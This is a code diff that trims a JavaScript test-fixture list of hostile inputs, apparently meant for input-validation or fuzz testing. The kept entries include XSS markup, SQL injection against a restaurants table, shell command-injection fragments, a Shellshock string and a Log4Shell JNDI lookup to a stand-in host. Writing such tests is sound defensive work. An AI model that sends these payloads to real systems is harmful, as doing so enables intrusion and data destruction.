@@ -14,17 +14,13 @@ const markup = [
   '<iframe srcdoc="<pwn>">',
   '<a href="javascript:pwn()">',
   'java\tscript:pwn()',
-  '<math><mi xlink:href="data:x,<pwn>">',
   '<base href="//pwn.example">',
   '<meta http-equiv=refresh content=0;//pwn.example>',
-  '<form action=//pwn.example>',
   '\\u003cpwn\\u003e',
-  '\\x3cpwn\\x3e',
   '＜pwn＞',
   '<pwn\u0000>',
   '<\u0000pwn>',
   '${pwn()}',
-  '<%= pwn %>',
 ]
 
 const addresses = [
@@ -61,8 +57,6 @@ const code = [
   "' OR '1'='1",
   '1; DROP TABLE restaurants',
   '`id`',
-  '| id',
-  '; id',
   '&& id',
   '() { :;}; id',
   '${jndi:ldap://pwn.example/a}',
@@ -91,24 +85,17 @@ const characters = [
   ).map((hex) => String.fromCharCode(Number.parseInt(hex, 16))),
   '😀',
   '👩‍👩‍👧‍👦',
-  '🇺🇸',
   '🏳️‍🌈',
   'e\u0301',
   'ﬁ',
-  'ﷺ',
   'दाल मखनी',
-  '北京',
-  '𝒟𝑜𝓈𝒶',
-  '𠜎',
 ]
 
 const long = [
   'a'.repeat(121),
   'a'.repeat(5_000),
-  '😀'.repeat(400),
   '%20'.repeat(300),
   '&a=b'.repeat(500),
-  '/a'.repeat(800),
   'e\u0301'.repeat(300),
   '<pwn>'.repeat(200),
 ]
